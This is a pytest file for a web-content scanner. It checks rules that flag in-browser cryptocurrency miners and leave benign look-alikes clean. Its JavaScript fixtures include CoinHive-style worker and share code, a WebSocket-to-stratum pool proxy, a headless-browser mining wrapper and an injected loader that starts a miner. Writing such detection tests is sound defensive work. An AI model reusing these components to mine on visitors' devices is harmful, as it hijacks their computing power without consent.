"""Kit internals beyond the public API (issue 12, class 6), on examples written here: the
worker side of CoinHive clones, an asm.js fallback, the Node.js side of a deployment (a
WebSocket-to-stratum proxy, a headless-browser wrapper), snippets whose line breaks were lost;
and the benign look-alikes each rule must leave clean."""

from __future__ import annotations

import pytest

from webscan.model import VerdictLabel

KEY = "Zq3LmN8pRt5vXw2yBc7dFg4hJk6sTu9a"

WORKER_WRAPPER = """
var HashWorker = function () {
  this.throttleWait = 0; this.currentJob = null;
  this.target = new Uint8Array([255, 255, 255, 255, 255, 255, 255, 255]);
  var heap = Module.HEAPU8.buffer;
  this.input = new Uint8Array(heap, Module._malloc(84), 84);
  this.output = new Uint8Array(heap, Module._malloc(32), 32);
  self.onmessage = this.onMessage.bind(this);
};
HashWorker.prototype.onMessage = function (msg) {
  var job = msg.data;
  if (!this.currentJob || this.currentJob.job_id !== job.job_id) this.setJob(job);
  if (job.throttle) { this.throttleWait = 1 / (1 - job.throttle) - 1; }
  this.work();
};
HashWorker.prototype.setJob = function (job) {
  this.currentJob = job; this.blob = hexToBytes(job.blob); this.input.set(this.blob);
  this.target = hexToBytes(job.target);
};
HashWorker.prototype.work = function () {
  var n = 0, found = false, t0 = performance.now();
  do {
    var nonce = (Math.random() * 4294967295) >>> 0;
    this.input[39] = nonce >>> 24; this.input[40] = nonce >>> 16;
    this.input[41] = nonce >>> 8; this.input[42] = nonce;
    HASH_CALL;
    n++; found = meetsTarget(this.output, this.target);
  } while (!found && performance.now() - t0 < 1000);
  var rate = n / ((performance.now() - t0) / 1000);
  if (found) self.postMessage({ hashesPerSecond: rate, hashes: n, job_id: this.currentJob.job_id,
                                nonce: toHex(this.input.subarray(39, 43)), result: toHex(this.output) });
  else self.postMessage({ hashesPerSecond: rate, hashes: n });
};
Module.onRuntimeInitialized = function () { new HashWorker(); };
"""

ASMJS_FALLBACK = """
var Module = typeof Module !== 'undefined' ? Module : {};
function CnAsm(global, env, buffer) {
  'use asm';
  var HEAP8 = new global.Int8Array(buffer);
  var HEAPU8 = new global.Uint8Array(buffer);
  var imul = global.Math.imul;
  function _cryptonight_hash(input, output, len, variant) {
    input = input | 0; output = output | 0; len = len | 0; variant = variant | 0;
    var i = 0;
    for (i = 0; (i | 0) < (len | 0); i = (i + 1) | 0) {
      HEAPU8[(output + (i & 31)) >> 0] = (HEAPU8[(output + (i & 31)) >> 0] ^ HEAPU8[(input + i) >> 0]) | 0;
    }
  }
  function _malloc(n) { n = n | 0; return 1024; }
  return { _cryptonight_hash: _cryptonight_hash, _malloc: _malloc };
}
var asm = CnAsm(self, {}, new ArrayBuffer(16777216));
Module._cryptonight_hash = asm._cryptonight_hash; Module._malloc = asm._malloc;
var input = new Uint8Array(16777216, Module._malloc(84), 84), output = new Uint8Array(16777216, Module._malloc(32), 32);
self.onmessage = function (e) {
  input.set(e.data.blob);
  Module._cryptonight_hash(input.byteOffset, output.byteOffset, e.data.blob.length, 1);
  self.postMessage({ job_id: e.data.job_id, nonce: e.data.nonce, result: hex(output), hashes: 1 });
};
"""

STRATUM_PROXY = """
const { WebSocketServer } = require('ws');
const tls = require('tls');
const server = new WebSocketServer({ port: Number(process.env.PORT) });
server.on('connection', (client) => {
  const upstream = tls.connect({ host: process.env.POOL_HOST, port: 443 });
  let buffer = '';
  client.on('message', (raw) => {
    const msg = JSON.parse(raw);
    if (msg.type === 'auth') {
      upstream.write(JSON.stringify({ id: 1, method: 'mining.authorize', params: [msg.params.user, 'x'] }) + '\\n');
    } else if (msg.type === 'submit') {
      upstream.write(JSON.stringify({ id: 4, method: 'mining.submit', params: [msg.params.job_id, msg.params.nonce] }) + '\\n');
    }
  });
  upstream.on('data', (chunk) => {
    buffer += chunk;
    for (const line of buffer.split('\\n')) {
      if (!line) continue;
      const data = JSON.parse(line);
      if (data.method === 'mining.notify') client.send(JSON.stringify({ type: 'job', params: data.params }));
    }
  });
});
"""

HEADLESS_WRAPPER = """
const EventEmitter = require('events');
const puppeteer = require('puppeteer');
class Runner extends EventEmitter {
  constructor(opts) { super(); this.opts = opts; }
  async init() {
    this.browser = await puppeteer.launch({ args: ['--no-sandbox'] });
    this.page = await this.browser.newPage();
    await this.page.goto(`http://127.0.0.1:${this.opts.port}`);
    await this.page.exposeFunction('relay', (event, data) => this.emit(event, data));
  }
  async start() { return this.page.evaluate(() => window.pageMiner.start()); }
  async stop() { return this.page.evaluate(() => window.pageMiner.stop()); }
}
module.exports = (opts) => new Runner(opts);
"""

HEADLESS_USER = """
const run = require('./runner');
(async () => {
  const m = await run({ port: 3002 });
  await m.start();
  m.on('found', () => console.log('found'));
  m.on('accepted', () => console.log('accepted'));
  m.on('update', (d) => console.log(d.hashesPerSecond));
})();
"""

# a snippet captured from a page: its line breaks were lost, so a // comment swallowed the rest
ONE_LINE_CALL = ("var m = new Kit.Anonymous('" + KEY + "', { // threads: 2,throttle: 0.7,});"
                 "m.start();")
ONE_LINE_CALL_IN_CODE = ("ready(function() { show(); m = new Kit.User('" + KEY + "', \"guest\", "
                         "{ //throttle: 0.25});m.start();});if (x) {init();}")
# a comment that ends in the middle of the call: the rest of the call is code (and broken)
COMMENT_ENDS_MID_CALL = ("// stats//setInterval(function() {//}, 1000);var m = new Kit.Anonymous('"
                         + KEY + "', {\n  throttle: 0.2\n}); // on desktops only//m.start();")

# a Node server answering with a page that points a kit at the server's own proxy
PAGE_SERVER = """
const express = require('express');
module.exports = function serve(opts) {
  const shards = `<script>Kit.CONFIG.WEBSOCKET_SHARDS = [["ws://localhost:${opts.wsPort}"]];</script>`;
  const page = `<script src="${opts.libUrl}"></script>${shards}<script src="/run.js"></script>`;
  const app = express();
  app.use('*', (req, res) => res.send(page));
  return app;
};
"""
# an injected loader writes the miner as an inline script
WRITTEN_SCRIPT = ("document.write('<script src=\\'/lib/k.js\\'><\\/script><script>var m = new Kit.Anonymous(\\'"
                  + KEY + "\\', {throttle: 0.5}); m.start();<\\/script>');")
BENIGN_WRITTEN_SCRIPT = ("document.write('<script>window.dataLayer = window.dataLayer || [];"
                         " gtag(\\'config\\', \\'G-XXXX\\');<\\/script>');"
                         " var rx = /<script\\b[^<]*(?:(?!<\\/script>)<[^<]*)*<\\/script>/gi;")

BENIGN_CHAT_RELAY = """
const WebSocket = require('ws');
const net = require('net');
const wss = new WebSocket.Server({ port: 8080 });
wss.on('connection', (ws) => {
  const backend = net.createConnection(7000, 'chat-backend.internal');
  ws.on('message', (raw) => {
    const msg = JSON.parse(raw);
    if (msg.method === 'login') backend.write(JSON.stringify({ method: 'login', user: msg.user }) + '\\n');
    else backend.write(JSON.stringify({ method: 'say', room: msg.room, text: msg.text }) + '\\n');
  });
  backend.on('data', (d) => ws.send(String(d)));
});
"""

BENIGN_PUPPETEER_TEST = """
const puppeteer = require('puppeteer');
describe('checkout', () => {
  it('submits the form', async () => {
    const browser = await puppeteer.launch();
    const page = await browser.newPage();
    await page.goto('http://127.0.0.1:3000/checkout');
    await page.exposeFunction('onOrder', (o) => orders.push(o));
    await page.type('#email', 'a@b.c');
    await page.click('button[type=submit]');
    const title = await page.evaluate(() => document.title);
    const started = await page.evaluate(() => window.app.start());
    expect(title).toBe('Thanks');
    await browser.close();
  });
});
"""

BENIGN_CODEC_WORKER = """
var ready = new Promise(function (r) { Module.onRuntimeInitialized = r; });
self.onmessage = function (e) {
  ready.then(function () {
    var job = e.data, bytes = new Uint8Array(job.buffer);
    var inPtr = Module._malloc(bytes.length);
    Module.HEAPU8.set(bytes, inPtr);
    var out = new Uint8Array(Module.HEAPU8.buffer, Module._malloc(job.width * job.height * 4), job.width * job.height * 4);
    var ok = Module._decode_png(inPtr, bytes.length, out.byteOffset, job.width, job.height);
    Module._free(inPtr);
    self.postMessage({ jobId: job.id, width: job.width, height: job.height, result: ok ? out.slice() : null });
  });
};
"""

BENIGN_CRYPTO_WORKER = """
self.onmessage = async function (e) {
  var key = await crypto.subtle.importKey('raw', e.data.key, 'AES-GCM', false, ['encrypt']);
  var nonce = crypto.getRandomValues(new Uint8Array(12));
  var result = await crypto.subtle.encrypt({ name: 'AES-GCM', iv: nonce }, key, e.data.plain);
  self.postMessage({ jobId: e.data.jobId, nonce: nonce, result: result });
};
"""

# an anti-miner probes a kit's internals with typeof and stops what it finds
BENIGN_ANTI_MINER = """
for (const name in window) {
  const o = window[name];
  if (o && typeof o.isRunning === 'function' && typeof o.setThrottle === 'function'
      && typeof o.getHashesPerSecond === 'function' && typeof o.getTotalHashes === 'function') { o.stop(); }
  if (o && typeof o.addWorker === 'function' && typeof o.startMining === 'function'
      && typeof o.totalhashes === 'number' && typeof o.throttleMiner === 'number') { o.stopMining(); window[name] = null; }
}
"""

BENIGN_BROKEN_SCRIPT = ("var form = { user: new Models.User(id, { admin: false }, // todo: roles"
                        "});render(form);")


def _scan(scanner, src: str, name: str = "x.js"):
    return scanner.scan_bytes(src.encode(), name)


def _rules(report) -> set[str]:
    return {f.rule for f in report.findings}


@pytest.mark.parametrize("call", [
    "_cryptonight_hash(this.input.byteOffset, this.output.byteOffset, this.blob.length, 1)",
    # a minified build keeps no hash name: the share message and the throttle still tell
    "Module._k(this.input.byteOffset, this.output.byteOffset, this.blob.length)",
])
def test_emscripten_worker_wrapper_is_a_miner(scanner, call):
    r = _scan(scanner, WORKER_WRAPPER.replace("HASH_CALL", call), "worker.js")
    assert r.verdict is VerdictLabel.miner, r.explanation
    assert {"js.kit.worker-share-message", "js.kit.throttle-wait"} <= _rules(r)
    if "cryptonight" in call:
        assert "js.emscripten.heap-hash-call" in _rules(r)


def test_asmjs_fallback_with_its_wrapper_is_flagged(scanner):
    r = _scan(scanner, ASMJS_FALLBACK, "worker-asmjs.js")
    assert r.verdict in (VerdictLabel.miner, VerdictLabel.suspicious), r.explanation
    assert {"js.emscripten.heap-hash-call", "js.kit.worker-share-message"} <= _rules(r)


def test_websocket_to_stratum_proxy_is_a_miner(scanner):
    r = _scan(scanner, STRATUM_PROXY, "proxy.js")
    assert "js.node.ws-stratum-proxy" in _rules(r)
    assert r.verdict is VerdictLabel.miner, r.explanation


def test_headless_browser_wrapper_and_its_user_are_flagged(scanner):
    r = _scan(scanner, HEADLESS_WRAPPER, "runner.js")
    assert "js.node.headless-miner-page" in _rules(r)
    assert r.verdict is not VerdictLabel.clean
    u = _scan(scanner, HEADLESS_USER, "mine.js")
    assert "js.kit.share-events" in _rules(u)
    assert u.verdict is not VerdictLabel.clean


@pytest.mark.parametrize("src", [ONE_LINE_CALL, ONE_LINE_CALL_IN_CODE])
def test_a_kit_call_cut_off_by_a_lost_line_break_is_found(scanner, src):
    r = _scan(scanner, src, "snippet.js")
    assert "js.parse.syntax-error" in _rules(r)
    assert r.verdict is VerdictLabel.miner, r.explanation
    hit = next(f for f in r.findings if f.category == "kit-api")
    # the finding points at the call in the source, not at a re-parsed copy
    assert hit.location.line == 1
    assert src.encode()[hit.location.column - 1:].startswith(b"new Kit.")
    assert "brackets closed" in (hit.location.context or "")


def test_a_comment_ending_inside_a_kit_call_is_suspicious(scanner):
    r = _scan(scanner, COMMENT_ENDS_MID_CALL, "snippet.js")
    assert "js.kit.commented-out-call" in _rules(r)
    assert r.verdict is VerdictLabel.suspicious, r.explanation


def test_a_commented_call_does_not_tip_strong_code_to_miner(scanner):
    share_only = ("self.postMessage({ job_id: j.job_id, nonce: n, result: h, hashes: c });\n"
                  "// var m = new Kit.Anonymous('" + KEY + "'); m.start();\n")
    r = _scan(scanner, share_only, "worker.js")
    assert {"js.kit.worker-share-message", "js.kit.commented-out-call"} <= _rules(r)
    assert r.verdict is VerdictLabel.suspicious, r.explanation


@pytest.mark.parametrize("name,src,line", [("server.js", PAGE_SERVER, 4), ("inject.js", WRITTEN_SCRIPT, 1)])
def test_a_script_written_as_markup_is_analysed(scanner, name, src, line):
    r = _scan(scanner, src, name)
    assert r.verdict is VerdictLabel.miner, r.explanation
    hit = next(f for f in r.findings if f.category == "kit-api")
    assert "inline <script>" in (hit.location.context or "")
    assert hit.location.line == line  # where the markup is written


@pytest.mark.parametrize("name,src", [
    ("chat-relay.js", BENIGN_CHAT_RELAY),
    ("checkout.test.js", BENIGN_PUPPETEER_TEST),
    ("png-worker.js", BENIGN_CODEC_WORKER),
    ("aes-worker.js", BENIGN_CRYPTO_WORKER),
    ("form.js", BENIGN_BROKEN_SCRIPT),
    ("minerkiller.js", BENIGN_ANTI_MINER),
    ("analytics.js", BENIGN_WRITTEN_SCRIPT),
])
def test_benign_look_alikes_stay_clean(scanner, name, src):
    r = _scan(scanner, src, name)
    assert r.verdict is VerdictLabel.clean, (name, r.explanation)
    assert not _rules(r) & {"js.node.ws-stratum-proxy", "js.node.headless-miner-page",
                            "js.kit.worker-share-message", "js.emscripten.heap-hash-call",
                            "js.kit.share-events"}


@pytest.mark.parametrize("text,tail", [
    (b"f(a, {", b"})"),
    (b"f(')', \"{\", `[`, {", b"})"),           # brackets in strings do not count
    (b"f({ // }) is a comment", b"})"),           # nor in comments
    (b"f(/* ) */ [1, 2", b"])"),
    (b"g(x)) + h(", b")"),                        # a stray closer is skipped
    (b"s = 'don\\'t", b"'"),                      # an open string is closed first
    (b"done(1);", b""),
])
def test_closers_close_what_a_fragment_leaves_open(text, tail):
    from webscan.js.salvage import closers

    assert closers(text) == tail


def test_error_fragments_are_bounded():
    """A script broken in thousands of places costs at most MAX_FRAGMENTS re-parses."""
    from tree_sitter import Language, Parser
    import tree_sitter_javascript

    from webscan.js import salvage

    src = b"".join(b"a%d = f(x, { ) ;\n" % i for i in range(3000))
    root = Parser(Language(tree_sitter_javascript.language())).parse(src).root_node
    assert root.has_error
    parts = list(salvage.error_fragments(root, src))
    assert 0 < len(parts) <= salvage.MAX_FRAGMENTS
    for at, text in parts:  # the source's own bytes at their own offset, then the closers
        body = next(text[:k] for k in range(len(text), 0, -1) if src[at:at + k] == text[:k])
        assert text[len(body):] == salvage.closers(body) != b""


def test_hash_statistics_reported_for_a_wallet_are_flagged(scanner):
    src = """
    function report(ws, miner, wallet) {
      var last = 0;
      setInterval(function () {
        var total = miner.getTotalHashes();
        ws.send(JSON.stringify({ wallet: wallet, newHashes: total - last, rate: miner.getHashesPerSecond() }));
        last = total;
      }, 5000);
    }
    """
    r = _scan(scanner, src, "stats.js")
    assert "js.kit.hash-stats-report" in _rules(r)
    assert r.verdict is not VerdictLabel.clean


def test_inline_script_bodies_are_bounded():
    from webscan.js import inline_scripts as inl

    many = b"".join(b"w('<script>new K.Anonymous(k%d)<\\/script>');" % i for i in range(100))
    bodies = inl.inline_scripts(many)
    assert len(bodies) == inl.MAX_BODIES
    assert bodies[0].text == "new K.Anonymous(k0)" and many[bodies[0].start:].startswith(b"new K.")
    # tags that never close, and empty bodies (<script src=...></script>), give nothing
    assert inl.inline_scripts(b"'<script>' " * 1000) == []
    assert inl.inline_scripts(b"s = '<script src=\"a.js\"></script>';") == []
